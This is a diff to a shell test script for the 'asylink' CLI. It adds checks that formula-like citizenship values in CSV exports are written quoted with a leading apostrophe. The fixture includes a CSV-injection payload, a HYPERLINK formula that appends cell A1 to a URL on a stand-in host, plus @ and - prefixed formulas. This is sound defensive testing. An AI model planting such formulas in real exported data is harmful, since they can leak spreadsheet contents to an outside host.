@@ -290,6 +290,33 @@ check_eq "... and only its rows (3 per message, 3 messages: PUBLIC, LIMITED, PUB
   --idle 3 --json >"$T/sub-rest.jsonl" 2>/dev/null
 check_eq "the other type stayed for a later subscribe" "$(line_get "$T/sub-rest.jsonl" 1 'j["content_type"]')" text/plain
 
+echo "== subscribe --format csv: payload text a spreadsheet would run is written as text"
+cat >"$T/formula.json" <<'JSON'
+{"reporting_country": "DE", "period": {"year": 2026, "month": 11},
+ "rows": [{"citizenship": "=HYPERLINK(\"http://example.invalid/\"&A1,\"SY\")", "applications_total": 1},
+          {"citizenship": "@SUM(A1:A9)", "applications_total": 2},
+          {"citizenship": "-2+3", "applications_total": 3}]}
+JSON
+"$ASYLINK" publish --config "$T/DE.ini" --topic stats.monthly.DE --type asylink.v1.MonthlyStatistics \
+  --payload "$T/formula.json" --timeout 30 >/dev/null 2>"$T/pub-formula.err"
+check_eq "a MonthlyStatistics with formula-like citizenship cells is published" "$?" 0
+"$ASYLINK" subscribe --config "$T/EUAA.ANALYSIS.ini" --prefix stats --subscription cli-formula \
+  --start earliest --idle 3 --format csv --type asylink.v1.MonthlyStatistics \
+  >"$T/sub-formula.csv" 2>/dev/null
+check "=HYPERLINK(...) is written quoted with a leading apostrophe" \
+  grep -qF 'DE,2026,11,"'"'"'=HYPERLINK(""http://example.invalid/""&A1,""SY"")",1,' "$T/sub-formula.csv"
+check "so are @ and - at the start of text" \
+  bash -c "grep -qF \"DE,2026,11,\\\"'@SUM(A1:A9)\\\",2,\" '$T/sub-formula.csv' &&
+           grep -qF \"DE,2026,11,\\\"'-2+3\\\",3,\" '$T/sub-formula.csv'"
+check "no cell starts with a formula character unquoted" \
+  bash -c "! grep -qE '(^|,)[=@+-][^,]' '$T/sub-formula.csv'"
+check "numbers are not touched (the 2026,11 period and counts)" grep -qE '^DE,2026,11,.*,1,' "$T/sub-formula.csv"
+"$ASYLINK" subscribe --config "$T/EUAA.ANALYSIS.ini" --prefix stats --subscription cli-formula-j \
+  --start earliest --idle 3 --json --type asylink.v1.MonthlyStatistics >"$T/sub-formula.jsonl" 2>/dev/null
+check_eq "JSON lines keep the exact text" \
+  "$(tail -n 1 "$T/sub-formula.jsonl" | python3 -c 'import json,sys; print(json.load(sys.stdin)["payload"]["rows"][1]["citizenship"])')" \
+  "@SUM(A1:A9)"
+
 echo "== errors"
 echo '{"request_id": "X", "colour": "blue"}' >"$T/bad.json"
 "$ASYLINK" send --config "$T/DE.ini" --to FR --type asylink.v1.InformationRequest \
